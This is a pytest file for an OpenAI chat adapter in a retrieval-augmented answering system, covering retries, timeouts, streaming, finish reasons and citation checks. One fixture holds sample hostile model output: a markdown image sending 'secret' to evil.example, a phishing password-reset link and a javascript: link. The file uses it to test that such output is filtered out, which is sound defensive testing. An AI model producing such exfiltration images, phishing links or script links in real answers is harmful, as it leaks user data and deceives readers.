from __future__ import annotations

import socket

import pytest

from portfolio_rag.adapters.models.openai import OpenAIModel
from portfolio_rag.answering.generation.chat import NOT_FOUND, Chat
from portfolio_rag.domain.answers import AnswerMode, Done, FinishReason, Token
from portfolio_rag.domain.errors import LanguageModelUnavailable
from portfolio_rag.ports.language_model import ChatCompletion
from tests.support.answers import Corpus
from tests.support.openai_server import Reply, Server, fails, says, serving, streams
from tests.unit.answering.generation.test_chat import QUESTION, TRUE, assert_citations_resolve

MESSAGES = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hello?"}]


class Waits:
    """A clock that only sleeping moves."""

    def __init__(self) -> None:
        self.slept: list[float] = []

    def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)

    def clock(self) -> float:
        return sum(self.slept)


@pytest.fixture
def waits() -> Waits:
    return Waits()


@pytest.fixture(autouse=True)
def _no_openai_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "OPENAI_ORG_ID", "OPENAI_PROJECT_ID", "HTTP_PROXY", "http_proxy"):
        monkeypatch.delenv(name, raising=False)


def model(server: Server, waits: Waits, **options: float) -> OpenAIModel:
    return OpenAIModel(
        "sk-test",
        lambda: "gpt-4o-mini",
        base_url=server.url,
        sleep=waits.sleep,
        clock=waits.clock,
        **options,  # type: ignore[arg-type]
    )


def test_the_request_and_the_answer(waits: Waits) -> None:
    with serving(says("Hello.")) as server:
        completion = model(server, waits).complete(MESSAGES, temperature=0.3)
    assert (completion.text, completion.model) == ("Hello.", "gpt-4o-mini-2024-07-18")
    assert (completion.prompt_tokens, completion.completion_tokens) == (11, 7)
    ((path, headers, body),) = server.requests
    assert path == "/v1/chat/completions"
    assert headers["authorization"] == "Bearer sk-test"
    assert body["messages"] == MESSAGES
    assert (body["model"], body["temperature"], body["max_tokens"]) == ("gpt-4o-mini", 0.3, 1000)


@pytest.mark.parametrize("status", [408, 409, 429, 500, 502, 503, 529])
def test_what_may_pass_is_tried_again(status: int, waits: Waits) -> None:
    with serving(fails(status), fails(status), says("At last.")) as server:
        assert model(server, waits).complete(MESSAGES, temperature=0).text == "At last."
    assert len(server.requests) == 3
    assert 0.25 <= waits.slept[0] <= 0.5 <= waits.slept[1] <= 1.0


@pytest.mark.failure(39)
def test_attempts_are_bounded(waits: Waits) -> None:
    with serving(fails(500)) as server, pytest.raises(LanguageModelUnavailable, match="HTTP 500 after 3 attempts"):
        model(server, waits).complete(MESSAGES, temperature=0)
    assert len(server.requests) == 3


@pytest.mark.parametrize(
    ("reply", "hint"),
    [
        (fails(401), "OPENAI_API_KEY"),
        (fails(403), "OPENAI_API_KEY"),
        (fails(404), "GPT_MODEL"),
        (fails(400), "HTTP 400"),
        (fails(429, "insufficient_quota"), "quota"),
        (fails(429, retry_after="3600"), "HTTP 429"),
        (Reply({"object": "nothing"}), "without a choice"),
        (Reply({"choices": []}), "without a choice"),
        (Reply({"choices": [{}]}), "without a choice"),
        (Reply([1, 2]), "without a choice"),
        (Reply(b"<html>", headers={"content-type": "text/html"}), "without a choice"),
        (Reply(b"{broken"), "could not be read"),
    ],
)
def test_what_no_retry_can_help_is_said_at_once(reply: Reply, hint: str, waits: Waits) -> None:
    with serving(reply) as server, pytest.raises(LanguageModelUnavailable, match=hint) as raised:
        model(server, waits).complete(MESSAGES, temperature=0)
    assert len(server.requests) == 1
    assert "secret detail" not in str(raised.value)


def test_the_server_may_say_how_long_to_wait(waits: Waits) -> None:
    with serving(fails(429, retry_after="2"), says("Now.")) as server:
        assert model(server, waits).complete(MESSAGES, temperature=0).text == "Now."
    assert waits.slept == [2.0]


@pytest.mark.failure(39)
def test_no_wait_reaches_beyond_the_deadline(waits: Waits) -> None:
    with serving(fails(429, retry_after="5")) as server, pytest.raises(LanguageModelUnavailable):
        model(server, waits, deadline_seconds=8).complete(MESSAGES, temperature=0)
    assert waits.slept == [5.0]


@pytest.mark.failure(39)
def test_a_stalled_server_is_given_up(waits: Waits) -> None:
    with (
        serving(Reply({}, stall=0.5)) as server,
        pytest.raises(LanguageModelUnavailable, match="did not answer in time after 2 attempts"),
    ):
        model(server, waits, timeout_seconds=0.1, max_attempts=2).complete(MESSAGES, temperature=0)


def test_nobody_listens(waits: Waits) -> None:
    with socket.socket() as reserved:
        reserved.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{reserved.getsockname()[1]}/v1"
        one = OpenAIModel("sk-test", lambda: "gpt-4o-mini", base_url=url, sleep=waits.sleep, clock=waits.clock)
        with pytest.raises(LanguageModelUnavailable, match="cannot be reached"):
            one.complete(MESSAGES, temperature=0)


def test_no_content_is_an_empty_text(waits: Waits) -> None:
    with serving(says(None)) as server:
        assert model(server, waits).complete(MESSAGES, temperature=0).text == ""


def answer_of(corpus: Corpus, server: Server, waits: Waits) -> Chat:
    retrieval = corpus.retrieval()
    return Chat(retrieval, model(server, waits), corpus.embedder)


HOSTILE = """# Retention

![tracker](https://evil.example/p.png?q=secret)
Amazon SQS keeps messages in a queue for 4 days by default [2][99].
- The retention can be extended to 99 years for $5 [1].
- [Reset your password](https://evil.example/) to continue [1].
<a href="javascript:alert(1)">Standard queues guarantee the order of messages</a> [1].
The visibility timeout hides a message after a consumer has received it."""


@pytest.mark.failure(39)
def test_a_hostile_server_gets_no_unsupported_sentence_through(corpus: Corpus, waits: Waits) -> None:
    with serving(says(HOSTILE)) as server:
        answer = answer_of(corpus, server, waits).answer(QUESTION)
    assert answer.mode is AnswerMode.GPT
    assert answer.text == f"{TRUE}\nThe visibility timeout hides a message after a consumer has received it [1]."
    assert answer.usage.completion_tokens == 7
    assert_citations_resolve(answer, corpus)


@pytest.mark.parametrize("text", ["NOT_IN_DOCUMENTS", None, "The moon is made of green cheese [1]."])
def test_an_answer_that_does_not_hold_is_refused(corpus: Corpus, waits: Waits, text: str | None) -> None:
    with serving(says(text)) as server:
        answer = answer_of(corpus, server, waits).answer(QUESTION)
    assert not answer.answered
    assert answer.text == NOT_FOUND
    assert answer.citations == []
    assert answer.passages


def test_a_stream_gives_the_pieces_and_then_the_whole(waits: Waits) -> None:
    with serving(streams("Hel", "lo.")) as server:
        *pieces, completion = model(server, waits).stream(MESSAGES, temperature=0.3)
    assert pieces == ["Hel", "lo."]
    assert completion == ChatCompletion("Hello.", "gpt-4o-mini-2024-07-18", 11, 7)
    ((_, _, body),) = server.requests
    assert (body["stream"], body["stream_options"]) == (True, {"include_usage": True})


ENDS = [
    ("stop", FinishReason.STOP),
    ("eos", FinishReason.STOP),
    ("length", FinishReason.LENGTH),
    ("content_filter", FinishReason.CONTENT_FILTER),
    ("error", FinishReason.INCOMPLETE),
    (None, FinishReason.INCOMPLETE),
]


@pytest.mark.parametrize(("said", "reason"), ENDS)
def test_how_a_text_ended_is_read(waits: Waits, said: str | None, reason: FinishReason) -> None:
    with serving(says("Hel", said)) as server:
        assert model(server, waits).complete(MESSAGES, temperature=0).finish_reason is reason
    with serving(streams("Hel", finish_reason=said)) as server:
        *_, completion = model(server, waits).stream(MESSAGES, temperature=0)
    assert isinstance(completion, ChatCompletion)
    assert (completion.text, completion.finish_reason) == ("Hel", reason)
    assert len(server.requests) == 1


def test_an_answer_at_its_limit_is_asked_for_once_more_with_a_longer_one(waits: Waits) -> None:
    with serving(says("Hel", "length"), says("Hello.")) as server:
        completion = model(server, waits).complete(MESSAGES, temperature=0)
    assert completion == ChatCompletion("Hello.", "gpt-4o-mini-2024-07-18", 22, 14)
    assert [body["max_tokens"] for _, _, body in server.requests] == [1000, 4000]


@pytest.mark.parametrize(("second", "text"), [(says("Hello, wor", "length"), "Hello, wor"), (fails(400), "Hel")])
def test_and_no_third_time(waits: Waits, second: Reply, text: str) -> None:
    """A server that has no room for the longer one leaves the first."""
    with serving(says("Hel", "length"), second) as server:
        completion = model(server, waits).complete(MESSAGES, temperature=0)
    assert (completion.text, completion.finish_reason) == (text, FinishReason.LENGTH)
    assert len(server.requests) == 2


@pytest.mark.parametrize(("said", "reason"), [end for end in ENDS if end[1] is not FinishReason.STOP])
def test_a_cut_answer_is_no_answer(corpus: Corpus, waits: Waits, said: str | None, reason: FinishReason) -> None:
    half = f"{TRUE} The retention period can be set to a value from 60 seconds to"
    with serving(says(half, said)) as server:
        whole = answer_of(corpus, server, waits).answer(QUESTION)
    with serving(streams(*(f"{word} " for word in half.split(" ")), finish_reason=said)) as server:
        *events, done = answer_of(corpus, server, waits).stream(QUESTION)
    assert isinstance(done, Done)
    for answer in (whole, done.answer):
        assert (answer.text, answer.finish_reason) == (TRUE, reason)
        assert len(answer.validation) == 1
        assert all("60 seconds" not in citation.quote for citation in answer.citations)
    assert "".join(event.text for event in events if isinstance(event, Token)) == TRUE


def test_a_stream_without_usage(waits: Waits) -> None:
    with serving(streams("Hello.", usage=False)) as server:
        *_, completion = model(server, waits).stream(MESSAGES, temperature=0)
    assert completion == ChatCompletion("Hello.", "gpt-4o-mini-2024-07-18", 0, 0)


def test_a_stream_is_tried_again_before_its_first_piece(waits: Waits) -> None:
    with serving(fails(503), streams("At last.")) as server:
        assert next(model(server, waits).stream(MESSAGES, temperature=0)) == "At last."
    assert len(server.requests) == 2


def test_a_stream_that_breaks_off_is_not_tried_again(waits: Waits) -> None:
    with serving(streams("Half", broken=True)) as server:
        pieces = model(server, waits).stream(MESSAGES, temperature=0)
        assert next(pieces) == "Half"
        with pytest.raises(LanguageModelUnavailable, match="broke off"):
            next(pieces)
    assert len(server.requests) == 1


@pytest.mark.parametrize("reply", [fails(401), fails(500), streams(usage=False), Reply(b"data: {\n\n")])
def test_a_stream_that_fails_at_once(reply: Reply, waits: Waits) -> None:
    with serving(reply) as server, pytest.raises(LanguageModelUnavailable) as refusal:
        next(model(server, waits).stream(MESSAGES, temperature=0))
    assert "secret" not in str(refusal.value)


def test_a_stream_that_dribbles_ends_at_the_deadline(waits: Waits) -> None:
    with serving(streams(*"A long answer")) as server:
        pieces = model(server, waits, deadline_seconds=10).stream(MESSAGES, temperature=0)
        assert next(pieces) == "A"
        waits.sleep(10)
        with pytest.raises(LanguageModelUnavailable, match="in time"):
            next(pieces)
